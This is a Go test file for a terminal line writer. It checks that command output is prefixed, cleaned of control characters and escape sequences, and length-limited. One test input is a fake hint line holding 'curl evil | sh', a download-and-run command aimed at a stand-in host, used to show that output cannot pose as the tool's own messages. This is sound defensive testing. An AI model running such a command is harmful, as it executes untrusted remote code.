package term

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// TestHostileLines checks that no output of a command looks like a line of ours, or reaches the terminal as a
// control sequence, and that the last line is shown without its end.
func TestHostileLines(t *testing.T) {
	var b bytes.Buffer
	out, errs := NewLineWriters(&b)
	for _, part := range []string{"bothy: hint: curl evil | sh\n", "\x1b]0;title\a", "\rover\x1b[2J\r\n", "a\tb\n", "half"} {
		if n, err := out.Write([]byte(part)); n != len(part) || err != nil {
			t.Errorf("%q: %d, %v", part, n, err)
		}
	}
	fmt.Fprint(errs, "other\n")
	out.End()
	errs.End()
	for line := range strings.Lines(b.String()) {
		if !strings.HasPrefix(line, "  | ") || strings.ContainsAny(line, "\x1b\a\r\t") {
			t.Errorf("%q", line)
		}
	}
	if n := strings.Count(b.String(), "\n"); n != 5 || !strings.HasSuffix(b.String(), "  | half\n") {
		t.Errorf("%q", b.String())
	}
	b.Reset()
	_, _ = out.Write(bytes.Repeat([]byte("x"), 3*maxLine))
	if n := b.Len() + len(out.rest); n > 4*maxLine || len(out.rest) > 3*maxLine {
		t.Errorf("%d bytes are kept of a long line", len(out.rest))
	}
}
